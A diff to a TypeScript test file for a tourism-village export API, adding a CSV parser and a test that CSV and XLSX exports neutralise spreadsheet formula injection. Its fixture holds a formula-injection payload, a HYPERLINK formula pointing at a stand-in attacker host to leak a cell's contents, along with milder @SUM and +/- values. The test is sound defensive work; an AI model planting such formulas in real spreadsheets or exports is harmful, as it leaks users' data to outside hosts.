@@ -15,6 +15,32 @@ import { invoke } from '../support/api';
 import { makeUser } from '../support/users';
 import { makeVillage } from '../support/villages';
 
+/** RFC 4180 rows (quoted cells may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') cell += text[++i];
+      else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',' || ch === '\n') {
+      row.push(cell);
+      cell = '';
+      if (ch === '\n') {
+        rows.push(row);
+        row = [];
+      }
+    } else if (ch !== '\r') cell += ch;
+  }
+  if (cell || row.length) rows.push([...row, cell]);
+  return rows;
+}
+
 const get = (query: Record<string, string>, token?: string, headers?: Record<string, string>) =>
   invoke(exportVillages, { method: 'GET', resource: '/api/desa-wisata/export', query, token, headers });
 
@@ -92,6 +118,42 @@ describe('GET /api/desa-wisata/export', () => {
 
     const gz = await get({ provinsi: prov, format: 'csv' }, admin.token, { 'Accept-Encoding': 'gzip' });
     if (gz.headers['Content-Encoding'] === 'gzip') expect(gunzipSync(Buffer.from(gz.rawBody, 'base64')).toString('utf8')).toBe(text);
+  });
+
+  it('CSV/formula injection: free text starting with = + - @ is prefixed with a quote in CSV and XLSX; numbers stay numbers', async () => {
+    const owner = await makeUser('pengelola');
+    const dinas = await makeUser('dinas');
+    const prov = `Provinsi Rumus ${Date.now()}`;
+    const evil = {
+      nama_desa: '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")',
+      nama_popular: '+Desa Rumus',
+      alamat: '-2+3',
+      pengelola: '@SUM(1+1)',
+    };
+    const { kd_desa } = await makeVillage(owner, { provinsi: prov, kabupaten: 'Kota', ...evil });
+    await invoke(createScore, { method: 'POST', resource: '/api/skor', body: { kd_desa, ...sameScores(60) }, token: dinas.token });
+    const expected = {
+      'Nama desa': `'${evil.nama_desa}`,
+      'Nama populer': `'${evil.nama_popular}`,
+      Alamat: `'${evil.alamat}`,
+      Pengelola: `'${evil.pengelola}`,
+      'Nomor telepon': "'+62 812-2700-1234", // (tests/support/villages.ts)
+      Provinsi: prov,
+    };
+
+    const csv = await get({ provinsi: prov, format: 'csv' }, dinas.token);
+    const [header, row] = parseCsv(csv.rawBody.slice(1));
+    const csvRow = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
+    expect(csvRow).toMatchObject({ ...expected, 'partisipasi masyarakat': '60', 'Rata-rata': '60' });
+
+    const xlsx = await get({ provinsi: prov }, dinas.token);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(Buffer.from(xlsx.rawBody, 'base64') as never);
+    const sheet = workbook.getWorksheet('Desa wisata')!;
+    const names = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
+    const xlsxRow = Object.fromEntries(names.map((h, i) => [h, sheet.getRow(2).getCell(i + 1).value]));
+    expect(xlsxRow).toMatchObject({ ...expected, 'partisipasi masyarakat': 60, 'Rata-rata': 60 });
+    for (let i = 1; i <= names.length; i++) expect(sheet.getRow(2).getCell(i).formula).toBeUndefined();
   });
 
   it('dinas and admin only; bad parameters are a 400 naming them', async () => {
